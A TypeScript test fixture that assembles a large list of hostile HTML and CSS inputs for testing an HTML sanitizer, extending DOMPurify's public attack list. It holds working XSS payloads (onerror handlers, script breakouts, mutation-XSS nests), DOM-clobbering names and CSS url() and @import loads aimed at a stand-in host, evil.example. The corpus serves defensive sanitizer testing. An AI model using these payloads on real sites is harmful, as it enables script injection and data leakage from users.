import list from 'dompurify-attacks/test/fixtures/expect.js'

/** One piece of hostile markup, as the body of a page. */
export type Attack = { title: string; payload: string }

const EVIL = 'https://evil.example/'
const LOADS = `url(${EVIL}css)`

/** Names that hide what a walk over the page would read from a node, if it read it from the node itself. */
const HIDDEN =
  'attributes childNodes firstChild nextSibling parentNode parentElement shadowRoot nodeType nodeName localName namespaceURI ownerDocument getAttribute getAttributeNames assignedNodes textContent innerText getBoundingClientRect style tagName'.split(
    ' ',
  )
const HIDDEN_IN_DOCUMENT =
  'body documentElement defaultView createElement querySelectorAll getSelection fonts adoptedStyleSheets styleSheets title'.split(
    ' ',
  )

/** Declarations that load something, each in a style attribute, a rule, a pseudo-element and a shadow root. */
const LOADING = [
  `background:${LOADS}`,
  `background-image:image-set("${EVIL}set" 1x)`,
  `background-image:-webkit-image-set(url(${EVIL}webkit-set) 1x)`,
  `background-image:cross-fade(url(${EVIL}a), url(${EVIL}b))`,
  `background-image:linear-gradient(red,blue),url("${EVIL}second")`,
  `background-image:u\\72l(${EVIL}escaped)`,
  `background-image:url('${EVIL}"),url("x')`,
  `background-image:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${EVIL}inner'/></svg>")`,
  `list-style-image:${LOADS};display:list-item`,
  `cursor:${LOADS},auto`,
  `border-image:${LOADS} 1`,
  `border-image-source:${LOADS}`,
  `mask:${LOADS}`,
  `mask-image:${LOADS}`,
  `-webkit-mask-box-image:${LOADS}`,
  `filter:url(${EVIL}filter#f)`,
  `backdrop-filter:url(${EVIL}filter#f)`,
  `clip-path:url(${EVIL}clip#c)`,
  `shape-outside:${LOADS};float:left`,
  `offset-path:url(${EVIL}path#p)`,
  `content:${LOADS}`,
  `--x:${LOADS};background:var(--x)`,
  `background:src("${EVIL}src")`,
  `background:attr(data-x type(<url>))`,
  `background:if(style(--y:1): ${LOADS}; else: none)`,
  `font-family:"</style><img src=${EVIL}font onerror=alert(1)>"`,
  `font-family:"a;}*{background:url(${EVIL}font)}"`,
  `grid-template-areas:"</style>";display:grid`,
  `animation-name:x;animation-duration:1s`,
  `fill:url(${EVIL}fill#f)`,
  `color:expression(alert(1));behavior:${LOADS};-moz-binding:${LOADS}`,
]

const ADDRESSES = [
  'javascript:alert(1)',
  ' java\tscript:alert(1)',
  `data:text/html,<script>alert(1)</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>`,
  `${EVIL}"onerror="alert(1)`,
  `${EVIL}'><script>alert(1)</script>`,
  `${EVIL}\u202e\ud800`,
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/temporary/1',
  'flagpost-media:0:',
  'flagpost-media:99999999999:',
]
/** What takes an address; `@` stands for it. */
const CARRIERS = [
  '<img src="@" alt="@">',
  '<img srcset="@ 1x, @ 2x"><picture><source srcset="@"><img></picture>',
  '<video src="@" poster="@" autoplay><source src="@"><track src="@" default></video><audio src="@" autoplay></audio>',
  '<a href="@" ping="@">a</a><form action="@"><button formaction="@">b</button><input type="image" src="@"></form>',
  '<svg><a href="@"><text y="9">a</text></a><image href="@" width="9" height="9"/><use href="@#a"/><feImage href="@"/><script href="@"></script></svg>',
  '<svg><set attributeName="href" to="@"/><animate attributeName="href" values="@"/><path fill="@" d="M0 0h9v9"/><g id="@" clip-path="url(@)"><rect width="9" height="9"/></g></svg>',
  '<iframe src="@"></iframe><embed src="@"><object data="@"></object><frameset><frame src="@"></frameset>',
  '<link rel="stylesheet" href="@"><link rel="preconnect" href="@"><link rel="icon" href="@"><link rel="preload" as="image" href="@"><base href="@"><img src="x">',
  '<table background="@"><td background="@">t</td></table><body background="@">',
  '<math><maction actiontype="statusline#@" href="@">m<mtext xlink:href="@">t</mtext></maction></math>',
]

/** Markup that reads as something else the second time, or breaks out of what we write around it. */
const NESTS = [
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><table><desc><style><a title="</style><img src onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<select><template><style></select><img src=x onerror=alert(1)></style></template></select>',
  '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"><iframe srcdoc="<script>alert(1)</script>"></iframe><img src=x onerror=alert(1)>words</body></foreignObject></svg>',
  '<iframe srcdoc="&lt;script>parent.alert(1)&lt;/script>&lt;img src=https://evil.example/srcdoc>"></iframe>',
  '<meta http-equiv="refresh" content="60;url=https://evil.example/refresh"><meta http-equiv="Content-Security-Policy" content="img-src *">',
  '<div><template shadowrootmode="open"><style>:host{background:url(https://evil.example/host)}</style><img src=x onerror=alert(1)><slot></slot></template>words</div>',
  '<div><template shadowrootmode="closed"><b onclick=alert(1)>closed</b><slot onslotchange=alert(1)></slot></template>words</div>',
  '<style>@import "https://evil.example/import";@\\69 mport url(https://evil.example/escaped);@font-face{font-family:evil;src:url(https://evil.example/font)}p{font-family:evil}</style><p>words</p>',
  '<style>p::before{content:url(https://evil.example/before)}p::after{content:"</style><img src=x onerror=alert(1)>" attr(title)}li::marker{content:url(https://evil.example/marker)}</style><p title="</span><script>alert(1)</script>">words</p><li>item</li>',
  '<style>@counter-style x{system:cyclic;symbols:"<img src=x onerror=alert(1)>"}li{list-style:x}</style><ol><li>item</ol>',
  "<p lang='\"><script>alert(1)</script>' dir='\"onload=alert(1)' class='f0\"><script>alert(1)</script>' id=\"</p><script>alert(1)</script>\">words</p>",
  "<textarea></textarea><script>alert(1)</script><textarea>&lt;/textarea>&lt;img src=x onerror=alert(1)></textarea><input value='\"><img src=x onerror=alert(1)>'><select><option>&lt;img src=x onerror=alert(1)></select>",
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext></body><script>alert(1)</script>',
  '<a-b onclick=alert(1)><x:y>words</x:y><svg:script>alert(1)</svg:script></a-b>',
  '<details open ontoggle=alert(1)><summary>s</summary>words</details><dialog open onclose=alert(1)>d</dialog><marquee onstart=alert(1)>m</marquee>',
  '<img src=x onerror=alert(1)><svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg><input autofocus onfocus=alert(1)>',
  '<p popover id=p onbeforetoggle=alert(1)>p</p><button popovertarget=p>b</button><p style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>v</p>',
  `${'<div>'.repeat(600)}deep${'</div>'.repeat(600)}`,
  `${'<b>'.repeat(300)}${'<svg>'.repeat(300)}deep`,
  '<canvas width="99999" height="99999"></canvas><canvas width="0" height="0"></canvas><video></video>',
  '<p>&lt;/div>&lt;script>alert(1)&lt;/script> &amp;lt;img> \u0000 \u2028 ]]> --> <!-- --!> <![CDATA[ <?xml ?></p>',
  '<object><param name=x value=x><img src=x onerror=alert(1)></object><applet code=x>a</applet><portal src=https://evil.example/portal></portal><fencedframe></fencedframe>',
]

const styled = (css: string): string =>
  `<style>.a,.b::before,.c::after{${css.replaceAll('</', '<\\/')}}.b::before,.c::after{content:"words";${css.replaceAll('</', '<\\/')}}</style>` +
  `<p class="a" style='${css.replaceAll("'", '&#39;')}'>words</p><p class="b c" data-x="${EVIL}attr">words</p>` +
  `<div><template shadowrootmode="open"><style>:host,slot,::slotted(*){${css.replaceAll('</', '<\\/')}}</style><slot></slot></template><i>words</i></div>`

/** DOMPurify's public list as it stands in one of its npm packages, and what came up since or concerns us alone. */
export const ATTACKS: Attack[] = [
  ...(list as Attack[]),
  ...HIDDEN.map((name) => ({
    title: `form with ${name}`,
    payload: `<form><input name="${name}"><input id="${name}">words</form><form id="${name}"><p>words</p></form><object name="${name}" id="x"></object>`,
  })),
  ...HIDDEN_IN_DOCUMENT.map((name) => ({
    title: `document with ${name}`,
    payload: `<img name="${name}"><form name="${name}"><input name="style"></form><p>words</p>`,
  })),
  ...LOADING.map((css) => ({ title: css, payload: styled(css) })),
  ...ADDRESSES.map((address) => ({
    title: `${address} wherever an address may stand`,
    payload: CARRIERS.join('').replaceAll('@', address.replaceAll('"', '&quot;').replaceAll('<', '&lt;')),
  })),
  ...CARRIERS.map((carrier) => ({ title: carrier, payload: carrier.replaceAll('@', EVIL) })),
  ...NESTS.map((payload) => ({ title: payload.slice(0, 60), payload })),
]
